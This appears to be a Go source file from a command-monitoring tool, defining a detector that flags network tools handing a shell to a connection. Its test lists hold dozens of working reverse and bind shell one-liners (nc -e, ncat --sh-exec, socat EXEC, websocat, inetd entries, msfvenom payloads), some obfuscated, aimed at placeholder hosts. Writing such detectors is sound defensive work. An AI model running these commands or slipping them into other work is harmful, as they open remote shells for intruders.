package detect

import (
	"regexp"
	"slices"
	"strings"

	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/program"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/track"
	"github.com/code-on-incus/coi/pkg/coi"
)

var shellRelayTool = Detector{
	ID: "shell.relay-tool", Level: coi.Critical, Wants: execs,
	Title:  "connection handed to a program",
	Why:    "a network tool was told to start a program and connect it to the network",
	Detect: onCommands(relayTool),
	Fire: append(lines(coi.Critical, "f(){ \"$@\"; }; f bash -c 'nc -e /bin/sh 203.0.113.9 9'",
		"nc -l -p 12345 -e /bin/sh",
		"nc.traditional 198.51.100.7 4242 -e /bin/bash",
		"ncat --ssl -c bash 198.51.100.7 4242",
		"ncat --sh-exec '/bin/sh -i' 198.51.100.7 9",
		"busybox nc 198.51.100.7 4242 -e sh",
		"socat TCP:198.51.100.7:4242 EXEC:'bash -li',pty,stderr,setsid,sigint,sane",
		"socat TCP-LISTEN:4444,reuseaddr,fork SYSTEM:/bin/sh",
		"socat openssl-connect:evil.test:443,verify=0 exec:/bin/bash,pty",
		"cp $(command -v nc) /tmp/.q; /tmp/.q -e /bin/sh 198.51.100.7 4242",
		"ln -s /usr/bin/socat /tmp/zz; /tmp/zz exec:sh tcp:198.51.100.7:1",
		"/lib64/ld-linux-x86-64.so.2 /usr/bin/ncat 198.51.100.7 1 -e /bin/sh",
		"/tmp/unknown -e /bin/sh 198.51.100.7 4242",
		"n'c' -\"e\" /bin/s\\h 198.51.100.7 4242",
		"ncat -v 198.51.100.7 9 --sh-exec 'exec sh -i'",
		"rcat connect -s bash 198.51.100.7 55600",
	), lines(coi.High,
		"ncat -e $(command -v zsh-x) --ssl 198.51.100.7 8443", "nc -lvp 9000 -e /bin/sh 127.0.0.1",
		"socat TCP-LISTEN:9000,fork EXEC:/opt/app/handler",
		"busybox telnetd -l /bin/sh -p 9999",
		"websocat ws://203.0.113.9:8080 sh-c:'exec bash -i'",
		"echo '99 stream tcp nowait root /bin/bash bash -i' >> /etc/inetd.conf", "systemd-socket-activate -l 4444 --inetd -a /bin/bash",
		"websocketd --port=8080 bash", "xinetd -f /dev/stdin <<< 'service x { port=4444 server=/bin/bash }'",
		"msfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.7 LPORT=1 -f elf -o /tmp/e",
	)...),
	Quiet: lines("",
		"nc -z localhost 8080", "nc -vz -w 5 host 1-100", "socat - TCP:host:80", "socat TCP-LISTEN:80,fork TCP:b:80",
		"echo -e 'GET / HTTP/1.1\\n\\n' | nc host 80", "nc -k -U -l /tmp/n.sock", "nc -c example.test 443",
		"ncat -l 8080 --keep-open", "while ! nc -z db 5432; do sleep 1; done", "socat UNIX-LISTEN:/tmp/a,fork TCP:127.0.0.1:80",
		"asciinema rec a.cast -c 'bash demo.sh'", "hyperfine -e bash -N 2>/dev/null", "./wrapper -e bash script.sh 10", "./loadgen tcp://203.0.113.9:9000 exec:./handler", "apt-get install -y netcat-traditional socat", "nc -e", "systemd-socket-activate -l 8080 ./server", "websocketd --port=8080 ./count.sh", "websocat ws://203.0.113.9:8080", "msfvenom --list payloads", "rg 'nc -e /bin/sh' .",
	),
}

// servesShell is the settings of a super-server for a shell.
var servesShell = regexp.MustCompile(`\b(?:server\s*=\s*|nowait\s+\S+\s+)\S*/(?:ba|z|da|k)?sh\b`)

func relayTool(s *command.Simple, _ track.View) *Finding {
	for _, a := range s.Accesses() {
		if changes(a.Op) && hasPrefixAny(a.Path, "/etc/inetd.conf", "/etc/xinetd") && servesShell.MatchString(a.Text) {
			return say(s, coi.High, "shell offered on a port by inetd").at(a.Path, a.Op)
		}
	}
	p := s.Parsed()
	switch s.Name {
	case "nc", "ncat", "cryptcat", "pwncat", "sbd":
		for _, v := range p.Values("e", "exec", "sh-exec", "c") {
			if f := handed(s, v, p.Has("l", "listen"), len(p.Rest)); f != nil {
				return f
			}
		}
		for _, l := range []string{"exec", "sh-exec"} { // written in any place, whatever the other options mean
			for i, a := range s.Argv {
				if a == "--"+l && i+1 < len(s.Argv) {
					if f := handed(s, s.Argv[i+1], true, 1); f != nil {
						return f
					}
				}
			}
		}
		if v := p.Values("lua-exec"); len(v) > 0 {
			return say(s, coi.High, "connection handed to a Lua program")
		}
	case "socat":
		return socatHand(s)
	case "websocat":
		for _, a := range s.Argv[1:] {
			if k, v, ok := strings.Cut(a, ":"); ok && oneOf(k, "sh-c", "cmd", "exec") && (k != "exec" || program.ShellPath(v)) && len(v) > 0 {
				return say(s, coi.High, "connection handed to "+cut(v, 40)).to(outHost(s))
			}
		}
	case "socket":
		for _, v := range p.Values("p") {
			if f := handed(s, v, p.Has("s"), len(p.Rest)); f != nil {
				return f
			}
		}
	case "rcat":
		if v := program.Parse(program.Spec{Short: "sp"}, s.Argv, false).Values("s"); len(v) > 0 && program.ShellPath(v[0]) {
			return say(s, coi.Critical, "connection handed to "+v[0]).to(outHost(s))
		}
	case "msfvenom", "msfpayload":
		if hasAny(s.Line(), "shell", "meterpreter", "reverse", "bind_") && !s.Arg("-l", "--list", "--list-options") {
			return say(s, coi.High, "program built that hands a shell to the network")
		}
	case "telnetd", "tcpserver", "in.telnetd", "udpsvd", "tcpsvd", "xinetd", "systemd-socket-activate", "websocketd", "shell2http", "s6-tcpserver4", "s6-tcpserver6", "faucet", "inetd", "socklog", "netpipes":
		if slices.ContainsFunc(s.Argv[1:], program.ShellPath) || servesShell.MatchString(s.Feed) {
			return say(s, coi.High, "shell offered on a port by "+s.Name)
		}
	}
	return nil
}

// handed judges the program that nc -e starts.
func handed(s *command.Simple, v string, listen bool, operands int) *Finding {
	v = strings.TrimSpace(v)
	for _, before := range []string{"exec ", "env ", "nohup ", "setsid "} {
		v = strings.TrimPrefix(v, before)
	}
	w := strings.Fields(v)
	if len(w) == 0 || operands == 0 && !listen {
		return nil
	}
	if strings.HasPrefix(v, "$()") && s.Parsed().Has("e", "exec") {
		return say(s, coi.High, "connection handed to a program").to(outHost(s))
	}
	shell := program.ShellPath(v) || program.ClassOf(w[0]) == program.Interpreter
	if !shell && !strings.Contains(w[0], "/") {
		return nil // -c of another nc: TLS, and this is the host
	}
	level := coi.Critical
	if !shell || loopbackOnly(s) {
		level = coi.High
	}
	return say(s, level, "connection handed to "+w[0]).to(outHost(s))
}

func socatHand(s *command.Simple) *Finding {
	prog, net, local := "", false, false
	for _, a := range s.Argv[1:] {
		k, v, ok := strings.Cut(a, ":")
		if !ok {
			continue
		}
		switch k = strings.ToLower(k); {
		case k == "exec" || k == "system" || k == "shell":
			prog = strings.Trim(strings.SplitN(v, ",", 2)[0], `"' `)
		case hasPrefixAny(k, "tcp", "udp", "openssl", "ssl", "sctp", "vsock", "dtls", "proxy", "socks"):
			net = true
			h, _, _ := strings.Cut(v, ":")
			local = command.Loopback(h) && !strings.Contains(k, "listen") || strings.Contains(v, "bind=127.")
		}
	}
	w := strings.Fields(prog)
	if len(w) == 0 || !net {
		return nil
	}
	level := coi.Critical
	if !program.ShellPath(prog) && program.ClassOf(w[0]) != program.Interpreter || local {
		level = coi.High
	}
	return say(s, level, "connection handed to "+w[0]).to(outHost(s))
}
